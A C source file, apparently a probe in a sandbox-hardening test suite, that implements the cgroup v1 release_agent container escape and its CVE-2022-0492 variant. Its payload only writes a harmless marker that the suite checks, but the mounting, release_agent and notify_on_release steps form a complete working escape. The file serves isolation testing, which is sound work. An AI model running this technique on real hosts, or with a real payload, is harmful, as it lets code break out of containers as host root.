/* release_agent: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F17: the cgroup v1 release_agent escape (and CVE-2022-0492 via a fresh user namespace). Mounts a
 * cgroup v1 hierarchy (rdma, memory, pids, a named one) in place and after unshare(user|mnt|cgroup);
 * also looks for an already mounted release_agent. If a hierarchy mounts, the defanged payload is a
 * script in scratch (same path on the host) that writes a marker into {host_dir}; release_agent points
 * at it, notify_on_release=1, and a short-lived child empties a new cgroup. The host directory oracle
 * sees the marker if the kernel ran it as host root. */
#include <sys/mount.h>
#include <sys/wait.h>
#include <sched.h>
static int esc;
static void attempt(const char *mnt, const char *opts, const char *scratch, const char *host_dir)
{
    mkdir(mnt, 0755);
    if (mount("cgroup", mnt, "cgroup", 0, opts) != 0) { printf("mount cgroup(%s) at %s: %s\n", opts, mnt, strerror(errno)); return; }
    printf("MOUNTED cgroup v1 (%s) at %s\n", opts, mnt); esc++; report(1, "mount-cgroup-v1 %s", opts);
    char p[600], script[600];
    snprintf(script, sizeof script, "%s/ra-%s.sh", scratch, NONCE);
    int fd = open(script, O_CREAT | O_WRONLY | O_TRUNC, 0755);
    if (fd >= 0) { dprintf(fd, "#!/bin/sh\necho gauntlet-%s > %s/release_agent-%s\n", NONCE, host_dir, NONCE); close(fd); chmod(script, 0755); }
    snprintf(p, sizeof p, "%s/release_agent", mnt);
    fd = open(p, O_WRONLY);
    if (fd < 0) { printf("open %s: %s\n", p, strerror(errno)); return; }
    long w = write(fd, script, strlen(script)); close(fd);
    printf("release_agent := %s: %s\n", script, w > 0 ? "ok" : strerror(errno));
    if (w > 0) report(1, "release_agent-written");
    char cg[600]; snprintf(cg, sizeof cg, "%s/gauntlet-%s", mnt, NONCE); mkdir(cg, 0755);
    snprintf(p, sizeof p, "%s/notify_on_release", cg);
    fd = open(p, O_WRONLY); if (fd >= 0) { (void)!write(fd, "1", 1); close(fd); }
    fflush(stdout);
    pid_t c = fork();
    if (c == 0) {
        snprintf(p, sizeof p, "%s/cgroup.procs", cg);
        int f = open(p, O_WRONLY); if (f >= 0) { dprintf(f, "%d", getpid()); close(f); }
        _exit(0);
    }
    if (c > 0) waitpid(c, 0, 0);
    usleep(100000);
    rmdir(cg);
}
int main(int argc, char **argv)
{
    const char *scratch = argc > 1 ? argv[1] : "/tmp";
    const char *host_dir = argc > 2 ? argv[2] : "/nonexistent";
    if (argc > 3) NONCE = argv[3];
    /* an existing writable release_agent anywhere visible */
    const char *existing[] = {"/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/pids/release_agent",
                              "/sys/fs/cgroup/rdma/release_agent", "/sys/fs/cgroup/systemd/release_agent", "/sys/fs/cgroup/cpu/release_agent"};
    for (unsigned i = 0; i < sizeof existing / sizeof *existing; i++) {
        int fd = open(existing[i], O_WRONLY);
        if (fd >= 0) { printf("OPENED %s for writing (nothing written)\n", existing[i]); esc++; report(1, "existing-release_agent"); close(fd); }
        else printf("open %s: %s\n", existing[i], strerror(errno));
    }
    const char *opts[] = {"rdma", "memory", "pids", "none,name=gauntlet", "cpu,cpuacct", "devices"};
    for (unsigned i = 0; i < sizeof opts / sizeof *opts; i++) attempt("/tmp/gcg", opts[i], scratch, host_dir);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0) {
        printf("unshare(user|mnt|cgroup) worked: CVE-2022-0492 path open\n");
        for (unsigned i = 0; i < sizeof opts / sizeof *opts; i++) attempt("/tmp/gcg2", opts[i], scratch, host_dir);
    } else printf("unshare(user|mnt|cgroup): %s\n", strerror(errno));
    if (!esc) report(0, "release-agent");
    return 0;
}
